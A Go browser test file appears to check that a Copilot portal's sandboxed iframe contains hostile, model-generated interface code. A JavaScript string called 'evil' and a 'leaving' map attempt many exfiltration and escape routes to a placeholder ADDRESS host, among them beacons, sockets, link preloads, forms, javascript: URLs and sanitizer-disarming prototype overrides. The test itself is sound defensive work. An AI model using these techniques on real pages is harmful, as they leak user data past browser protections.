package assets_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/copilot-portal/portal/server/portaltest"
)

// evil is code that no check has seen: each part tries what it must not be able to do, and notes what came of it. ADDRESS is somebody
// who must hear nothing.
const evil = `(() => {
  const tried = globalThis.tried = {};
  const attempt = (name, act) => {
    try {
      const result = act();
      tried[name] = result === undefined ? "nothing" : String(result);
      result?.then?.((value) => (tried[name] = "done: " + value), (error) => (tried[name] = "refused: " + error));
    } catch (error) {
      tried[name] = "refused: " + error.name;
    }
  };
  const far = (name) => "http://ADDRESS/" + name;
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  attempt("fetch", () => { const plain = new Request(far("fetch")); return Reflect.get(globalThis, "fetchLater")?.(plain) ?? "none"; });
  attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", far("xhr")); x.send(); });
  attempt("socket", () => new WebSocket("ws://ADDRESS/socket"));
  attempt("events", () => new EventSource(far("events")));
  attempt("transport", () => new WebTransport("https://ADDRESS/transport"));
  attempt("beacon", () => navigator.sendBeacon(far("beacon"), "x"));
  attempt("peer", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS" }] }));
  attempt("image", () => { new Image().src = far("image"); });
  attempt("style", () => { document.body.style.backgroundImage = "url(" + far("style") + ")"; });
  attempt("sheet", () => add("style", { textContent: "@import '" + far("sheet") + "'; @font-face { font-family: x; src: url('" + far("font") + "') } body { font-family: x }" }));
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "prerender"]) {
    attempt("link " + rel, () => add("link", { rel, href: far("link"), as: "image" }));
    attempt("markup " + rel, () => { document.body.innerHTML += '<link rel="' + rel + '" href="' + far("markup") + '" as="image">'; });
  }
  attempt("parse", () => document.body.append(new DOMParser().parseFromString('<link rel="preconnect" href="' + far("parse") + '">', "text/html").head.firstChild));
  attempt("two names", () => { let n = 0; const e = document.createElement({ toString: () => (n++ ? "link" : "div") }); e.rel = "preconnect"; e.href = far("names"); document.head.append(e); return e.localName; });
  attempt("disarmed", () => { Set.prototype.has = () => false; String.prototype.split = () => ["div"]; String.prototype.toLowerCase = () => "div"; const e = add("link", { rel: "preconnect", href: far("disarmed") }); });
  attempt("unsanitized", () => { const d = document.createElement("div"); document.body.append(d); d.setHTML('<link rel="preconnect" href="' + far("unsanitized") + '">', { sanitizer: {} }); });
  attempt("sanitized", () => document.body.appendChild(document.createElement("div")).setHTML('<link rel="preconnect" href="' + far("sanitized") + '">'));
  attempt("write", () => document.write("<img src=" + far("write") + ">"));
  attempt("script", () => add("script", { src: far("script") }));
  attempt("speculation", () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [far("speculation")] }] }) }));
  attempt("media", () => { add("video", { src: far("video"), autoplay: true }); add("audio", { src: far("audio"), autoplay: true }); });
  attempt("object", () => { add("object", { data: far("object") }); add("embed", { src: far("embed") }); });
  attempt("frame", () => add("iframe", { src: far("frame") }));
  attempt("form", () => { const form = document.createElement("form"); form.action = far("form"); form.method = "post"; document.body.append(form); form.submit(); });
  attempt("ping", () => { const a = document.createElement("a"); a.href = "#x"; a.ping = far("ping"); document.body.append(a); a.click(); });
  attempt("popup", () => String(window.open(far("popup"))));
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + far("worker") + "')"]))));
  attempt("service", () => navigator.serviceWorker.register(far("service")));
  attempt("eval", () => (0, eval)("1 + 1"));
  attempt("function", () => new Function("return 2")());
  attempt("timer", () => setTimeout("globalThis.byTimer = 1"));
  attempt("parent", () => parent.document.title);
  attempt("top", () => { top.location.href = far("top"); });
  attempt("local", () => localStorage.setItem("a", "b"));
  attempt("session", () => sessionStorage.setItem("a", "b"));
  attempt("cookie", () => { document.cookie = "a=b"; });
  attempt("database", () => indexedDB.open("a"));
  attempt("caches", () => caches.open("a"));
  attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (x) => x }));
  attempt("second policy", () => trustedTypes.createPolicy("portal", { createHTML: (x) => x }));
  globalThis.App = () => null;
})();`

// leaving are ways for the frame to go elsewhere, each of which is tried in a frame of its own.
var leaving = map[string]string{
	"location": `location.href = "http://ADDRESS/leave"`,
	"replace":  `location.replace("http://ADDRESS/leave")`,
	"link":     `{ const a = document.createElement("a"); a.href = "http://ADDRESS/leave"; document.body.append(a); addEventListener("click", (e) => e.stopImmediatePropagation(), true); a.click(); }`,
	"refresh":  `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://ADDRESS/leave"; document.head.append(m); }`,
	"portal":   `location.href = new URL("/api/copilot/session/list", location.href).href`,
	"data":     `location.href = "data:text/html,<img src=http://ADDRESS/leave>"`,
	"blob":     `location.href = URL.createObjectURL(new Blob(["<img src=http://ADDRESS/leave><link rel=preconnect href=http://ADDRESS>"], { type: "text/html" }))`,
	"scheme":   `location.href = "javascript:fetch('http://ADDRESS/leave')"`,
}

// begin opens a frame in a page of the portal as the page does, and gives it a script.
const begin = `new Promise((done) => {
  const version = document.querySelector("link[rel=modulepreload]").href.match(/v-[0-9a-f]{16}/)[0];
  for (const before of document.querySelectorAll("iframe")) before.remove(); // what waits for that has its time now
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  globalThis.heard ??= [];
  addEventListener("message", (event) => {
    if (event.source !== frame.contentWindow) return;
    heard.push(event.data.type);
    if (event.data.type === "ready") { frame.contentWindow.postMessage({ type: "show", code: CODE }, "*"); setTimeout(() => done(true), 1500); }
  });
  frame.src = version + "/frame.html";
  document.body.append(frame);
})`

func TestHostileCodeStaysInItsFrame(t *testing.T) {
	t.Parallel()
	chromium, portal := portaltest.StartChromium(t), portaltest.Start(t, portaltest.Options{Args: []string{"--demo"}})
	address, came, spoke := listener(t)
	first := chromium.Open(t, "about:blank")
	tab, end := chromedp.NewContext(first.Context, chromedp.WithNewBrowserContext()) // its console tells of all that is refused
	defer end()
	require.NoError(t, chromedp.Do(tab))
	ctx, cancel := context.WithTimeout(tab, 2*time.Minute)
	defer cancel()
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(portal.URL+"/#/status")))
	run := func(code string) {
		raw, err := json.Marshal(strings.ReplaceAll(code, "ADDRESS", address))
		require.NoError(t, err)
		shown, err := chromedp.Run(ctx, chromedp.Evaluate[bool](strings.Replace(begin, "CODE", string(raw), 1), chromedp.EvalAwaitPromise))
		require.NoError(t, err)
		require.True(t, shown)
	}
	run(evil)
	tried := triedIn(ctx, t)
	require.Len(t, tried, 56, "all of it was tried: %v", tried)
	for _, name := range []string{"eval", "function", "timer", "parent", "local", "session", "cookie", "worker", "service", "policy", "second policy", "peer", "write", "parse", "top", "unsanitized"} {
		assert.Contains(t, tried[name], "refused", name)
	}
	run("globalThis.App = () => null") // what waited for the end of the frame has had its time
	assert.Equal(t, "div", tried["two names"])
	assert.Zero(t, came.Load(), "nobody has even connected")
	for name, code := range leaving {
		run(code)
		assert.Zero(t, spoke.Load(), name) // Chromium connects before it asks the policy of the page, and then says nothing
	}
	title, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title + " " + localStorage.length + " " + location.pathname`))
	require.NoError(t, err)
	assert.Contains(t, title, "Copilot Portal 0 /")
	_ = chromedp.Do(ctx, chromedp.Navigate("http://"+address+"/")) // which closes the connection
	assert.NotZero(t, spoke.Load(), "who comes is counted")
}

// triedIn reads what came of the attempts.
func triedIn(tab context.Context, t *testing.T) map[string]string {
	t.Helper()
	all, err := chromedp.Targets(tab)
	require.NoError(t, err)
	for _, one := range all {
		if one.Type == "iframe" && strings.Contains(one.URL, "/frame.html") {
			frame, _ := chromedp.NewContext(tab, chromedp.WithTargetID(one.TargetID)) // ends with the tab
			tried, err := chromedp.Run(frame, chromedp.Evaluate[map[string]string](`globalThis.tried ?? {}`))
			require.NoError(t, err)
			return tried
		}
	}
	require.Fail(t, "there is no frame", "%v", all)
	return nil
}

// The model writes code that hangs: the page goes on, and says so.
func TestAnInterfaceThatHangsIsStopped(t *testing.T) {
	t.Parallel()
	chromium, portal := portaltest.StartChromium(t), portaltest.Start(t, portaltest.Options{Args: []string{"--demo"}})
	b := page{t, chromium, portal}.open(portal.URL + "/#/interfaces")
	text, _ := herons(t, "Loops", "<!-- demo: hostile loop -->")
	makes(b, "loops.json", text)
	require.Eventually(t, func() bool {
		return b.Is(`document.querySelector('[data-testid="trouble"]')?.textContent.includes("hangs")`)
	}, 2*time.Minute, 200*time.Millisecond)
	assert.True(t, b.Is(`document.querySelector("iframe") === null && document.querySelector('[data-testid="repair"]') !== null`))
	b.Click(id("delete"))
	b.WaitText("dialog[open]", "cannot be undone")
}
